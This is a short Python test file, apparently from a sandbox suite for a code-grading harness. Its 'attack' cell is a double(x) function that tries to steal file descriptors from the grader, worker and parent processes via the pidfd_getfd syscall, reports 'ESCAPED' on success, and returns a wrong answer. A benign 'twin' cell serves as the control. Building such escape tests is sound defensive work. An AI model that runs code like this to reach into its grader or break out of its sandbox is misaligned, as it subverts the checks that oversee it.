"""Take descriptors out of the grader, the worker and the parent process by pidfd_getfd.

stopped by: landlock, seccomp, uid, namespaces
"""

# %% attack
import contextlib
import ctypes
import os

PIDFD_GETFD = 438
libc = ctypes.CDLL(None)


def double(x):
    for process in (int("@GRADER@"), int("@WORKER@"), os.getppid()):
        with contextlib.suppress(OSError):
            target = os.pidfd_open(process)
            for number in range(40):
                taken = libc.syscall(PIDFD_GETFD, target, number, 0)
                if taken >= 0:
                    raise RuntimeError(f"ESCAPED: descriptor {number} of {process}")
    return 3 * x


# %% twin
import os


def double(x):
    reader, writer = os.pipe()
    copy = os.dup(writer)
    os.write(copy, b"2")
    factor = int(os.read(reader, 1))
    for descriptor in (reader, writer, copy):
        os.close(descriptor)
    return factor * x
